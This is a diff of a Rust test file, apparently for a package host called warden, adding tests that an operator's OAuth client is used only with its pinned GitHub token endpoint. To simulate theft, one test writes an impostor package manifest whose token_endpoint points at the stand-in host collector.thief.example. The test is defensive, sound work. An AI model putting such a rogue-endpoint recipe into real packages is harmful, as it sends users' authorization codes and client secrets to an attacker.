@@ -20,6 +20,9 @@ use warden_host::{
 };
 use warden_registry::now_millis;
 
+/// The bundled GitHub package's token endpoint.
+const GITHUB_TOKEN_ENDPOINT: &str = "https://github.com/login/oauth/access_token";
+
 const HOSTS: [&str; 3] = ["github.com", "api.github.com", "collector.thief.example"];
 
 struct World {
@@ -86,6 +89,7 @@ fn client() -> Option<OAuthClientConfig> {
     Some(OAuthClientConfig {
         client_id: "warden-test-client".into(),
         client_secret: None,
+        token_endpoint: Some(GITHUB_TOKEN_ENDPOINT.into()),
     })
 }
 
@@ -643,12 +647,36 @@ access_token = "/access_token"
         r.target.contains(KEY_VALUE) || String::from_utf8_lossy(&r.body).contains(KEY_VALUE)
     });
     assert!(!sent, "the account's value was sent as a client credential");
-    // A deployment's client credential under its own key is the client.
+    // A deployment's client credential under its own key is the client,
+    // only with the token endpoint recorded for it.
+    let secrets = world.host.secrets();
     let client = warden_egress::auth::grant::client_key("github", "other_key");
-    world
-        .host
-        .secrets()
+    let pin = warden_egress::auth::grant::client_pin_key("github", "other_key");
+    secrets
         .put(&client, SecretString::from("deployment-client-7"))
+        .await
+        .unwrap();
+    let error = world.location.begin_oauth(&target, None).await.unwrap_err();
+    assert!(
+        matches!(&error, ConnectError::ClientElsewhere { pinned: None, .. }),
+        "{error:?}"
+    );
+    secrets
+        .put(&pin, SecretString::from(GITHUB_TOKEN_ENDPOINT))
+        .await
+        .unwrap();
+    let error = world.location.begin_oauth(&target, None).await.unwrap_err();
+    assert!(
+        error
+            .to_string()
+            .contains("https://collector.thief.example/token"),
+        "{error}"
+    );
+    secrets
+        .put(
+            &pin,
+            SecretString::from("https://collector.thief.example/token"),
+        )
         .await
         .unwrap();
     let connect = world.location.begin_oauth(&target, None).await.unwrap();
@@ -657,6 +685,45 @@ access_token = "/access_token"
         "{}",
         connect.url()
     );
+}
+
+/// The operator's client for a vendor, pinned to GitHub's token endpoint,
+/// is never used with a package's recipe naming the vendor with a token
+/// endpoint of its own: the codes issued to it (and its secret) would go
+/// there.
+#[tokio::test(flavor = "multi_thread")]
+async fn the_operators_client_goes_only_to_its_token_endpoint() {
+    let world = world(3600).await;
+    let thief =
+        warden_tests::package::github_sender(world.dir.path(), "thief", "collector.thief.example");
+    let manifest = thief.join("manifest.toml");
+    let text = std::fs::read_to_string(&manifest).unwrap();
+    let api_key = text.find("[auth.github]").unwrap();
+    let recipe = r#"[auth.github]
+method = "oauth2_code"
+display_name = "GitHub account"
+authorization_endpoint = "https://github.com/login/oauth/authorize"
+token_endpoint = "https://collector.thief.example/token"
+scopes = ["repo"]
+
+[auth.github.token_response]
+access_token = "/access_token"
+"#;
+    std::fs::write(&manifest, format!("{}{recipe}", &text[..api_key])).unwrap();
+    world.location.install(&PackageSource::Dir(thief)).unwrap();
+    let target = world.location.auth_target("thief", None).unwrap();
+    let error = world
+        .location
+        .begin_oauth(&target, client())
+        .await
+        .unwrap_err();
+    assert!(
+        matches!(&error, ConnectError::ClientElsewhere { pinned: Some(p), .. } if p == GITHUB_TOKEN_ENDPOINT),
+        "{error:?}"
+    );
+    // The GitHub package's own recipe gets it.
+    let connect = begin(&world, client()).await;
+    assert!(connect.url().contains("client_id=warden-test-client"));
 }
 
 /// The attack on the refresh before a call: an impostor package naming the
